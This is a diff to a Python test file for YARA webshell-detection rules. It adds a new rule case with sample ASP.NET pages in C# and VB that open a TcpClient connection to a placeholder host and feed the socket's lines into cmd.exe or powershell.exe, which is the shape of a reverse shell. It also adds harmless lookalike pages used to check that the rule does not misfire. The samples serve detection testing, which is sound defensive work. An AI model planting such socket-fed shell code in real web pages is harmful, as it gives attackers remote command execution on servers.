@@ -5,12 +5,13 @@ Shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, ninet
 OSEP-course shellcode runner that builds its P/Invoke methods at run time with Reflection.Emit
 (``DefinePInvokeMethod``) instead of declaring them; a cheat sheet's web.config that maps an invented
 extension (``*.x``) to classic ASP; and a cheat sheet's "ASPX webshell" that starts cmd.exe bare and reads its
-output in the same expression. A fourth rule gives the shellcode runners of the same notes (``msfvenom -f
-aspx`` pages), which only the behaviour analysis found, a YARA rule of their own. The rules are in
-``data/rules/shellcode_runners.yar``, ``config_build_providers.yar`` and ``kit_actions.yar``; the pages below
-reproduce the shapes and the ordinary pages closest to them. All pages were written for these tests:
-nothing is compiled or run, the "shellcode" is a few no-op bytes, the hosts and names are placeholders, and
-none is a copy of a real shell.
+output in the same expression. Two more rules give the shellcode runners of the same notes (``msfvenom
+-f aspx`` pages) and their socket reverse shells (a TcpClient page, a BlogEngine.NET theme control), which
+only the behaviour analysis found, YARA rules of their own. The rules are in ``data/rules/
+shellcode_runners.yar``, ``config_build_providers.yar``, ``kit_actions.yar`` and ``payload_launchers.yar``;
+the pages below reproduce the shapes and the ordinary pages closest to them. All pages were written for
+these tests: nothing is compiled or run, the "shellcode" is a few no-op bytes, the hosts and names are
+placeholders, and none is a copy of a real shell.
 """
 
 from __future__ import annotations
@@ -265,11 +266,72 @@ BARE_INTERPRETER_ORDINARY: list[Page] = [
     ),
 ]
 
+# --- a connection's stream written into an interpreter's standard input ------------------------------------
+_SOCKET_LOOP = (
+    '  using (var c = new System.Net.Sockets.TcpClient("192.0.2.10", 4444))\n'
+    "  using (var r = new System.IO.StreamReader(c.GetStream())) {\n"
+    "    var p = new System.Diagnostics.Process();\n"
+    '    p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;\n'
+    "    p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;\n"
+    "    p.Start();\n    string l; while ((l = r.ReadLine()) != null) p.StandardInput.WriteLine(l);\n  }\n"
+)
+
+SOCKET_FED: list[Page] = [
+    (
+        "cs-page-tcpclient-cmd",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        + _SOCKET_LOOP
+        + "}\n</script>",
+    ),
+    (
+        "cs-theme-control-tcpclient-cmd",
+        ".ascx",
+        '<%@ Control Language="C#" AutoEventWireup="true" %>\n<script runat="server">\n'
+        "protected override void OnLoad(EventArgs e) {\n  base.OnLoad(e);\n" + _SOCKET_LOOP + "}\n</script>",
+    ),
+    (
+        "vb-socket-powershell",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
+        '  Dim c As New System.Net.Sockets.TcpClient("192.0.2.10", 443)\n'
+        "  Dim r As New System.IO.StreamReader(c.GetStream())\n"
+        '  Dim i As New System.Diagnostics.ProcessStartInfo("powershell.exe")\n'
+        "  i.UseShellExecute = False : i.RedirectStandardInput = True\n"
+        "  Dim p = System.Diagnostics.Process.Start(i)\n"
+        "  p.StandardInput.WriteLine(r.ReadLine())\nEnd Sub\n</script>",
+    ),
+]
+
+SOCKET_FED_ORDINARY: list[Page] = [
+    (
+        "smtp-port-check",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\nusing (var c = new System.Net.Sockets.TcpClient("mail.example.invalid", 25))\n'
+        "using (var r = new System.IO.StreamReader(c.GetStream())) { Banner.Text = r.ReadLine(); }\n%>",
+    ),
+    (
+        "sqlcmd-fed-from-page",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'var i = new System.Diagnostics.ProcessStartInfo("sqlcmd.exe", "-S db01 -E") { UseShellExecute = false, RedirectStandardInput = true };\n'
+        'var p = System.Diagnostics.Process.Start(i);\np.StandardInput.WriteLine("EXEC dbo.NightlyReport");\np.StandardInput.WriteLine("GO");\n%>',
+    ),
+    (
+        "cache-client-and-iisreset",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\nvar c = new System.Net.Sockets.TcpClient("cache01", 11211);\n'
+        'var w = new System.IO.StreamWriter(c.GetStream()); w.WriteLine("flush_all"); w.Flush();\n'
+        'System.Diagnostics.Process.Start("cmd.exe", "/c iisreset /noforce");\n%>',
+    ),
+]
+
 CASES: list[RuleCase] = [
     ("EXT_WEBSHELL_Shellcode_Runner_Page", RUNNERS, RUNNERS_ORDINARY),
     ("EXT_WEBSHELL_Dynamic_PInvoke_In_Page", DYNAMIC_PINVOKE, DYNAMIC_PINVOKE_ORDINARY),
     ("EXT_WEBSHELL_Config_Extension_Run_By_Classic_ASP", CLASSIC_ASP_MAPPING, CLASSIC_ASP_MAPPING_ORDINARY),
     ("EXT_WEBSHELL_Bare_Interpreter_Stream_In_Page", BARE_INTERPRETER, BARE_INTERPRETER_ORDINARY),
+    ("EXT_WEBSHELL_Socket_Fed_Interpreter", SOCKET_FED, SOCKET_FED_ORDINARY),
 ]
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
